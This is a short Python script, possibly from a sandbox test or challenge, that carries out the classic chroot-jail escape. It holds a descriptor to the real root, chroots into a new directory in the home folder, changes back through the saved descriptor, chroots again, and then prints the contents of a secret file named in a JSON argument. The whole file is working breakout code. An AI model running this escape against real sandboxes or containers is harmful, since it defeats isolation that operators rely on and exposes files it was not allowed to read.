"""Leave a folder that was made the root, which takes the privilege to make one."""

import json
import os
import sys
from pathlib import Path

outside = json.loads(sys.argv[1])
jail = Path(os.environ["HOME"], "jail")
jail.mkdir()
top = os.open("/", os.O_RDONLY)
os.chroot(jail)
os.fchdir(top)
os.chroot(".")
print("ESCAPED", Path(outside["secret"]).read_text())
